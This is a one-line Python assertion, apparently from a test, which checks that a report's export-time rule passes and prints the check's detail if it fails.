    assert report.check(R.EXPORT_TIME).ok, report.check(R.EXPORT_TIME).detail
